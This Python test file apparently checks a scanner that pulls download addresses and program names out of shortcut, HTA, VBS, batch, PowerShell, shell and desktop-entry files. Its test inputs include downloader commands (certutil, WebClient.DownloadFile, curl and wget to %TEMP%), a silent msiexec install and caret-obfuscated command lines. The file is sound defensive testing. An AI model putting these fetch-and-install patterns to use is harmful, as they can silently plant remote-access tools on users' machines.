import struct
from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guard.files import script
from guard.files.rationed import PIECE, Rationed

ADDRESS = "https://download.anydesk.com/AnyDesk.exe"


def read(data):
    return script.read(Rationed(BytesIO(data), 2 << 20))


def shortcut(arguments):
    """Return a Windows shortcut that starts something with these arguments ([MS-SHLLINK])."""
    head = struct.pack("<I16sI", 0x4C, bytes.fromhex("0114020000000000c000000000000046"), 0xA0)
    letters = arguments.encode("utf-16-le")
    return head.ljust(0x4C, b"\0") + struct.pack("<H", len(arguments)) + letters


@pytest.mark.parametrize(
    "words",
    [
        "[InternetShortcut]\r\nURL={}\r\nIconIndex=0\r\n",
        "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open(\"GET\",\"{}\",false);",
        "<hta:application><script>run('{}')</script>",
        'Set o = CreateObject("WScript.Shell"): o.Run "curl {} -o %TEMP%\\a"',
        "@echo off\r\ncertutil -urlcache -f {} %TEMP%\\x\r\n",
        "(New-Object Net.WebClient).DownloadFile('{}',$env:TEMP)",
        '<AppInstaller Uri="{}" Version="1.0.0.0">',
        "#!/bin/sh\nwget -q {}\n",
        "[Desktop Entry]\nExec=sh -c 'curl -O {}'\n",
    ],
    ids=["url", "js", "hta", "vbs", "bat", "ps1", "appinstaller", "sh", "desktop"],
)  # fmt: skip
def test_the_address_a_script_fetches_is_found(words):
    leads = read(words.replace("{}", ADDRESS).encode())
    assert leads[0] == ADDRESS
    assert script.name(leads[0]) == "AnyDesk.exe"


def test_the_address_in_a_shortcut_is_found():
    assert read(shortcut(f"/c curl {ADDRESS} -o x")) == (ADDRESS,)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-be"])
def test_it_is_found_in_every_common_encoding(encoding):
    assert ADDRESS in read(f"x = '{ADDRESS}'".encode(encoding))


def test_the_command_line_s_marks_are_seen_through():
    assert read(b"c^u^r^l htt^ps://x.example/An^yDesk.e^xe") == ("https://x.example/AnyDesk.exe",)
    assert read(b"iwr htt`ps://x.example/a.msi") == ("https://x.example/a.msi",)


def test_a_program_without_an_address_is_found():
    leads = read(rb'start "" "%USERPROFILE%\Downloads\TeamViewerQS.exe" & msiexec /i sc.msi /qn')
    assert leads == ("TeamViewerQS.exe", "sc.msi")


@pytest.mark.parametrize(
    ("lead", "name"),
    [
        ("https://x.example/get/AnyDesk.exe?lang=en", "AnyDesk.exe"),
        ("https://x.example/get?file=AnyDesk.exe&lang=en", "AnyDesk.exe"),
        ("https://x.example/AnyDesk.exe#top", ""),
        ("https://fastsupport.com", ""),
        ("https://anydesk.com/en/downloads", ""),
        ("AnyDesk.exe", "AnyDesk.exe"),
    ],
)
def test_the_name_in_an_address_is_found(lead, name):
    assert script.name(lead) == name


def test_the_same_lead_counts_once_and_not_too_many_count():
    assert read(f"{ADDRESS} {ADDRESS}".encode()) == (ADDRESS,)
    assert len(read(b" ".join(b"https://x.example/%d" % n for n in range(9_999)))) == script.MOST


def test_a_lead_is_cut():
    (lead,) = read(b"https://x.example/" + b"a" * 100_000)
    assert len(lead) == script.LONGEST


def test_what_stands_behind_much_else_is_found():
    assert read(b" " * (PIECE * 9) + ADDRESS.encode()) == (ADDRESS,)


@pytest.mark.parametrize("padding", [b"a", b"://", b"h://", b".exe", b"'", b"\0", b"^", b"/"])
def test_a_megabyte_of_anything_ends(padding):
    assert len(read(padding * ((1 << 20) // len(padding)))) <= script.MOST


def test_ordinary_words_lead_nowhere():
    assert read(b"#!/bin/sh\nset -e\necho hello world: it is 12:30\n") == ()


@given(st.binary(max_size=2_000))
def test_leads_of_anything_are_short_text(data):
    for lead in read(data):
        assert 0 < len(lead) <= script.LONGEST
        lead.encode()
